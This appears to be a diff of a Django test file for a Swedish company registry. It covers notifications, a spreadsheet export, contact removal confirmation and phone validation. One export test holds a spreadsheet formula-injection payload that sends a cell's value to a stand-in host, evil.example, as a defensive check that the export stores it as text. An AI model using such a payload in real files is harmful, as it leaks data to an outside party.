@@ -313,7 +313,10 @@ def test_public_application_creates_a_pending_company_and_an_invitation(client):
     assert response.status_code == 200
     company = Company.objects.get(org_number=number)
     assert company.status == Company.Status.APPLIED
-    assert Notification.objects.get(kind="companies.invitation").recipient.email == "eva@nyakafet.se"
+    # The applicant asked to be listed: the e-mail says so (not that someone invited them).
+    notification = Notification.objects.get(kind="companies.application_received")
+    assert notification.recipient.email == "eva@nyakafet.se"
+    assert "ansökan" in notification.body and "inbjud" not in notification.body.lower()
     assert not Company.objects.listed().exists()
 
 
@@ -348,8 +351,9 @@ def test_the_registry_spreadsheet_stores_formula_like_names_as_text(client, coor
 
     response = client.get(reverse("companies:registry-list"), {"format": "xlsx"})
     cell = load_workbook(BytesIO(response.content)).active.cell(row=2, column=1)
+    # A string cell is never run as a formula; it shows the name exactly, without an apostrophe in front.
     assert cell.data_type == "s"
-    assert cell.value.startswith("'=")
+    assert cell.value == '=HYPERLINK("https://evil.example/?"&B2,"Klicka")'
 
 
 def test_the_public_form_does_not_reveal_who_holds_a_number(client):
@@ -362,3 +366,32 @@ def test_the_public_form_does_not_reveal_who_holds_a_number(client):
     )  # fmt: skip
     assert response.status_code == 200
     assert "Hemligt Ansökt AB" not in response.content.decode()
+
+
+def test_removing_a_contact_person_asks_for_confirmation_first(client, rep):
+    company = rep.representation.company
+    company.contacts.create(name="Sara Lind", email="sara@kafe.se")
+    client.force_login(rep)
+    data = {"name": company.name, "work_training_places": 3, "contacts-TOTAL_FORMS": 1, "contacts-INITIAL_FORMS": 1,
+            "contacts-0-name": "Sara Lind", "contacts-0-email": "sara@kafe.se", "contacts-0-DELETE": "on"}  # fmt: skip
+    url = reverse("companies:company-edit", args=[company.pk])
+    response = client.post(url, data)
+    assert response.status_code == 200
+    assert "Ta bort kontaktpersonen Sara Lind" in response.content.decode()
+    assert company.contacts.count() == 1  # nothing removed before the confirmation
+    response = client.post(url, {**data, "confirm_removal": "1"})
+    assert response.status_code == 302
+    assert company.contacts.count() == 0
+
+
+def test_a_contact_persons_phone_is_checked_and_written_as_people_read_it(client, rep):
+    company = rep.representation.company
+    client.force_login(rep)
+    data = {"name": company.name, "work_training_places": 3, "contacts-TOTAL_FORMS": 1, "contacts-INITIAL_FORMS": 0,
+            "contacts-0-name": "Sara Lind", "contacts-0-phone": "0701123457"}  # fmt: skip
+    assert client.post(reverse("companies:company-edit", args=[company.pk]), data).status_code == 302
+    assert company.contacts.get().phone == "070-112 34 57"
+    data["contacts-0-phone"] = "811218-9876"
+    response = client.post(reverse("companies:company-edit", args=[company.pk]), data)
+    assert response.status_code == 200
+    assert "personnummer" in response.content.decode()
